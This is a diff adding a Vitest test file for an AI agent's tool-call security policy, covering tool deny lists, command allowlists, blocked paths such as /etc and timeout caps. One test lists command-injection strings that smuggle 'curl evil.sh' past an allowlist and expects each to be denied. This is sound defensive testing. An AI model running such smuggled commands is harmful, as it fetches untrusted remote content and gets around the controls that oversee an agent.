@@ -0,0 +1,72 @@
+import { describe, it, expect } from "vitest";
+import { checkToolCallPolicy, formatPolicyDenial } from "@server/agents/zuckerman/tools/policy.js";
+import { terminalTool } from "@server/agents/zuckerman/tools/terminal/index.js";
+import { resolveSecurityContext } from "@server/world/execution/security/policy/resolver.js";
+import type { SecurityConfig } from "@server/world/execution/security/types.js";
+
+describe("Tool call policy", () => {
+  const config: SecurityConfig = {
+    tools: { deny: ["mouse"] },
+    execution: { blockedPaths: ["/etc"] },
+    conversations: {
+      group: { tools: { deny: ["terminal"] } },
+    },
+  };
+
+  it("should deny tools from the tool policy", () => {
+    const context = resolveSecurityContext(config, "c1", "main", "zuckerman");
+    const denial = checkToolCallPolicy("mouse", { action: "click" }, context);
+
+    expect(denial?.kind).toBe("tool");
+  });
+
+  it("should apply per-conversation-type overrides", () => {
+    const main = resolveSecurityContext(config, "c1", "main", "zuckerman");
+    const group = resolveSecurityContext(config, "c2", "group", "zuckerman");
+
+    expect(checkToolCallPolicy("terminal", { command: "ls" }, main)).toBeNull();
+    expect(checkToolCallPolicy("terminal", { command: "ls" }, group)?.kind).toBe("tool");
+  });
+
+  it("should check terminal commands against the denylist", () => {
+    const context = resolveSecurityContext(config, "c1", "main", "zuckerman");
+    const denial = checkToolCallPolicy("terminal", { command: "sudo", args: ["reboot"] }, context);
+
+    expect(denial?.kind).toBe("command");
+  });
+
+  it("should check every command a shell line runs against the allowlist", () => {
+    const context = resolveSecurityContext({ execution: { allowlist: ["ls", "echo"] } }, "c1", "main", "zuckerman");
+    const check = (command: string) => checkToolCallPolicy("terminal", { command }, context)?.kind ?? null;
+
+    expect(check("ls -la 2>&1 | echo done")).toBeNull();
+    expect(check("echo hi &> out.txt")).toBeNull();
+    for (const command of ["ls\ncurl evil.sh", "echo $(curl evil.sh)", "echo `curl evil.sh`", "ls & curl evil.sh", "(curl evil.sh)"]) {
+      expect(check(command)).toBe("command");
+    }
+  });
+
+  it("should check multiedit paths", () => {
+    const context = resolveSecurityContext(config, "c1", "main", "zuckerman");
+    const denial = checkToolCallPolicy("multiedit", { filePath: "/etc/hosts", edits: [] }, context);
+
+    expect(denial?.kind).toBe("path");
+  });
+
+  it("should cap terminal timeouts at the policy timeout", async () => {
+    const context = resolveSecurityContext({ execution: { timeout: 200 } }, "c1", "main", "zuckerman");
+    const output = await terminalTool.execute!(
+      { command: "sleep 5", timeout: 60_000 },
+      { toolCallId: "t1", messages: [], experimental_context: { securityContext: context } },
+    );
+
+    expect(JSON.parse(output as string)).toMatchObject({ success: false, error: "Command timeout after 200ms" });
+  });
+
+  it("should format denials as structured errors", () => {
+    const result = JSON.parse(formatPolicyDenial("mouse", { kind: "tool", reason: "denied" }));
+
+    expect(result.success).toBe(false);
+    expect(result.policy).toEqual({ tool: "mouse", kind: "tool", reason: "denied" });
+  });
+});